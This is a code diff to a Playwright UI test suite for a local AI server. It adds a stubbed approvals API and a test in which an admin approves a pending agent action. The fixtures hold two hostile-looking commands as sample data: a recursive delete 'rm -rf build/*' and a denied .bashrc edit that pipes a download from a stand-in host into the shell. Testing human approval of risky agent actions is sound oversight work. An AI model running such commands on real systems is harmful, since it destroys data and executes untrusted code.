@@ -10,7 +10,34 @@ import assert from 'node:assert/strict';
 import { join } from 'node:path';
 import type { Browser, BrowserContext, Page } from 'playwright-core';
 import { axeViolations, launch, signIn, startUiServer, type UiServer } from './harness.ts';
+import type { FastifyInstance } from 'fastify';
 import { SCOPES } from '../../src/store/keys.ts';
+
+// A stand-in for the assistant's approvals API (GET /api/v1/approvals, POST /api/v1/approvals/{id}), which this
+// server does not have yet: one HIGH action waits, one was denied earlier.
+const approvals = [
+  {
+    id: 'apr_1', status: 'pending', created_at: new Date().toISOString(), task: 'clean the build folder',
+    action: { tool: 'run_command', summary: 'Delete build outputs', code: 'rm -rf build/*' },
+    risk: { level: 'HIGH', findings: [{ rule: 'fs.delete-recursive', message: 'deletes files recursively', line: 1 }] },
+    review: { verdict: 'concerns', reasons: ['the glob may match more than the build outputs'], model: 'reviewer' },
+  },
+  {
+    id: 'apr_0', status: 'denied', created_at: new Date(Date.now() - 3600_000).toISOString(), decided_by: 'admin', decided_at: new Date().toISOString(),
+    action: { tool: 'write_file', summary: 'Edit .bashrc', diff: '+curl example.invalid | sh' }, risk: { level: 'BLOCKED', findings: [] },
+  },
+] as Record<string, any>[];
+const decisions: unknown[] = [];
+function approvalRoutes(app: FastifyInstance): void {
+  app.get('/api/v1/approvals', async () => ({ object: 'list', data: approvals }));
+  app.post('/api/v1/approvals/:id', async (request) => {
+    const a = approvals.find((x) => x.id === (request.params as { id: string }).id)!;
+    const { decision } = request.body as { decision: 'approve' | 'deny' };
+    decisions.push({ id: a.id, decision, by: request.hearthAuth?.key?.name });
+    Object.assign(a, { status: decision === 'approve' ? 'approved' : 'denied', decided_by: request.hearthAuth?.key?.name, decided_at: new Date().toISOString() });
+    return a;
+  });
+}
 
 let server: UiServer;
 let browser: Browser;
@@ -20,7 +47,7 @@ let admin: string;
 const shots = process.env.HEARTH_UI_SCREENSHOTS;
 
 before(async () => {
-  [server, browser] = await Promise.all([startUiServer(), launch()]);
+  [server, browser] = await Promise.all([startUiServer({ routes: approvalRoutes }), launch()]);
   admin = server.store.keys.create({ name: 'admin', scopes: [...SCOPES] }).secret;
   context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
   page = await context.newPage();
@@ -59,12 +86,15 @@ test('sign in: the key is sent once, the session is an HttpOnly SameSite=Strict 
   const stored = await page.evaluate('JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }) + document.cookie') as string;
   assert.doesNotMatch(stored, /hth_|hearth_session/);
   // every page an admin key may see is in the navigation
-  assert.deepEqual(await page.getByRole('navigation', { name: 'Pages' }).getByRole('link').allTextContents(), ['Chat', 'Models', 'Keys', 'Usage', 'Server']);
+  assert.deepEqual(await page.getByRole('navigation', { name: 'Pages' }).getByRole('link').allTextContents(), ['Chat', 'Models', 'Keys', 'Usage', 'Server', 'Approvals']);
 });
 
 test('chat: a reply streams in, stop ends it, another model answers, the conversation is stored and resumed', async () => {
   await page.goto(`${server.base}/ui/#/chat`);
   await page.getByLabel('Model').selectOption('stories');
+  // a long reply (at 40 ms a token, a minute), so that a slow machine still sees it stream before it is stopped
+  await page.getByText('Settings').click();
+  await page.getByLabel('Max tokens').fill('1500');
   await page.getByLabel('Message').fill('Once upon a time');
   await page.getByLabel('Message').press('Enter');
   // streaming: the reply grows while the Stop button is up
@@ -83,7 +113,6 @@ test('chat: a reply streams in, stop ends it, another model answers, the convers
   assert.equal(await assistant().locator('.md').textContent(), stopped, 'nothing arrives after stop');
 
   // another model, a short reply that runs to its end: speed and time to first token are shown
-  await page.getByText('Settings').click();
   await page.getByLabel('Max tokens').fill('12');
   await page.getByLabel('Model').selectOption('tales');
   const sent = page.waitForRequest((r) => r.url().endsWith('/v1/chat/completions') && r.postDataJSON().model === 'tales');
@@ -196,6 +225,20 @@ test('usage and server pages draw their charts from the audit and /metrics', asy
   await page.goto(`${server.base}/ui/#/server`);
   await page.getByTestId('tps').filter({ hasText: /\d/ }).waitFor();
   await noSeriousViolations('server page');
+});
+
+test('approvals: a pending action with its code, risk and review; approve it; it joins the decisions', async () => {
+  await page.goto(`${server.base}/ui/#/approvals`);
+  const card = page.locator('article[data-approval="apr_1"]');
+  await card.waitFor();
+  assert.match((await card.textContent())!, /Delete build outputs\s*HIGH.*rm -rf build\/\*.*fs\.delete-recursive: deletes files recursively.*concerns/s);
+  assert.equal(await page.locator('tr[data-decided="apr_0"]').count(), 1);
+  await noSeriousViolations('approvals page');
+  await shot('approvals');
+  await card.getByRole('button', { name: 'Approve' }).click();
+  await page.locator('tr[data-decided="apr_1"]').filter({ hasText: 'approved' }).waitFor();
+  assert.equal(await card.count(), 0);
+  assert.deepEqual(decisions, [{ id: 'apr_1', decision: 'approve', by: 'admin' }]);
 });
 
 test('narrow screens and dark mode: the chat stays usable; a loopback server without keys lets the local user in', async () => {
